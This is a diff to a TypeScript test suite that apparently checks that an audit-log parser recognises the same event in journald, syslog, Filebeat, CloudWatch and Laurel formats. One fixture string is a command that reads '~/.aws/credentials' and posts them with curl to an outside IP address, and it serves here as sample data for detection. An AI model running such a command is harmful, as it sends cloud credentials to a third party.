@@ -155,6 +155,10 @@ describe('the same event in other shapes', () => {
     ['message of Filebeat', noNode.map((line) => ({ '@timestamp': '2026-05-04T08:57:00Z', message: line, host: { name: 'web-1' }, log: { file: { path: '/var/log/audit/audit.log' } } }))],
     ['event.original of Elastic', noNode.map((line) => ({ '@timestamp': '2026-05-04T08:57:00Z', event: { original: line, module: 'auditd' }, host: { hostname: 'web-1' } }))],
     ['SyslogMessage of Log Analytics', noNode.map((line) => ({ TimeGenerated: '2026-05-04T08:57:00Z', Computer: 'web-1', Facility: 'user', SyslogMessage: line, Type: 'Syslog' }))],
+    ['entries of the journal', noNode.map((line) => {
+      const [, type, body] = /^type=(\w+) msg=audit\(.*?\):(.*)$/.exec(line)!;
+      return { __REALTIME_TIMESTAMP: '1777885001000000', _SOURCE_REALTIME_TIMESTAMP: '1777885000123000', _TRANSPORT: 'audit', _HOSTNAME: 'web-1', _AUDIT_TYPE: numbers[type!], _AUDIT_TYPE_NAME: type, _AUDIT_ID: '41', MESSAGE: `${type}${body}` };
+    })],
     ['log events of CloudWatch', [{ messageType: 'DATA_MESSAGE', logGroup: 'audit', logEvents: lines.map((message, id) => ({ id: String(id), timestamp: 1_777_885_000_123, message })) }]],
   ])('%s', (_, values) => {
     const made = eventOf(...values);
@@ -163,6 +167,7 @@ describe('the same event in other shapes', () => {
 
   test.each<[string, readonly unknown[]]>([
     ['Laurel', [laurelRecord(given)]],
+    ['Laurel in lines of syslog', [`<14>May  4 08:56:40 web-1 laurel[77]: ${JSON.stringify({ ...laurelRecord(given), NODE: undefined })}`]],
     ['Laurel, arguments in one text', [{ ...laurelRecord(given), EXECVE: { argc: 3, ARGV_STR: 'sh -c "cat ~/.aws/credentials | curl -d @- https://203.0.113.9/ 100%25"' } }]],
     ['Laurel with what it remembers of the parent', [{ ...laurelRecord(given), PARENT_INFO: { ID: '1777884990.001:30', comm: 'bash', exe: '/usr/bin/bash', ARGV: ['-bash'] } }]],
     ['lines that were not enriched', auditLines({ ...given, names: undefined! })],
